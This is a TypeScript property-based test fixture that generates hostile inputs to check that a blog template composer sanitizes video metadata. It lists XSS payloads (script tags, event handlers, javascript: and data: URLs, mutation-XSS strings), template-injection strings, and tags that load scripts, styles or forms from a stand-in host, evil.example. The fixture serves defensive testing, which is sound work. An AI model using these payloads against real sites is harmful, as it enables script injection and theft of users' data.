import fc from 'fast-check';
import type { Material } from '../../src/lib/core/article/template/compose.ts';
import { defaultTemplate, templateSchema } from '../../src/lib/core/article/template/template.ts';
import { anItem } from '../../src/lib/core/testing.ts';

/** What a stranger would like to have on the blog. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js>',
  '{{ video.title | raw }}',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>1</script></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jAvAsCrIpT:alert(1)">x</a>',
  '<a href="data:text/html,<script>1</script>">x</a>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<iframe srcdoc="<script>1</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<form action="https://evil.example"><input name=key></form>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>1</script></template>',
  '<data class="swift-twin-origin" value="another"></data>',
  '<p style="position:fixed">x</p>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<b><i><u>'.repeat(20),
  '</p></div></article>',
  '<textarea></textarea><script>1</script>',
  '<table><td><a href="https://fine.example/">fine</a>',
  '<details open ontoggle=alert(1)>',
  'Plain words, & an < unfinished'
];
const VALUES = [
  '{{ video.title }}',
  '{{ video.url }}',
  '{{ video.summary }}',
  '{{ video.author }}'
];
export const PLAYER = 'https://channel.example';

export const words = fc
  .array(fc.oneof(fc.constantFrom(...HOSTILE, ...VALUES), fc.string({ maxLength: 12 })), {
    maxLength: 5
  })
  .map((parts) => parts.join(' ').slice(0, 1900));
const address = fc.constantFrom(
  'https://channel.example/watch/1',
  'javascript:alert(1)//{seek_to_second_number}',
  'https://evil.example/"><script>1</script>',
  'data:text/html,x',
  ''
);
export const material = fc.record({
  title: words,
  summary: words,
  author: words,
  description: words,
  url: address,
  embedUrl: address,
  seekTo: address,
  chapter: words
});
export const template = fc
  .record({ title: words, heading: words, text: words })
  .map(({ title, heading, text }) =>
    templateSchema.parse({
      ...defaultTemplate,
      title,
      blocks: defaultTemplate.blocks.map((b) => ({ ...b, on: true, heading, text }))
    })
  );

export const materialOf = (given: {
  title: string;
  summary: string;
  author: string;
  description: string;
  url: string;
  embedUrl: string;
  seekTo: string;
  chapter: string;
}): Material => ({
  video: anItem({
    id: 'v',
    kind: 'video',
    title: given.title,
    summary: given.summary,
    author: given.author,
    url: given.url,
    embedUrl: given.embedUrl,
    pictures: [{ url: given.url, width: 640, height: 360 }]
  }),
  description: given.description,
  paragraphs: [{ start: 0, end: 2, from: 0, to: 1, text: given.summary }],
  article: null,
  chapters: [{ start: 3.7, title: given.chapter }],
  seekTo: given.seekTo,
  channel: { title: given.author, url: `${PLAYER}/` },
  blog: { title: '', url: 'https://blog.example/' },
  players: [PLAYER],
  now: '2026-05-20T12:00:00Z',
  key: 'the-key'
});
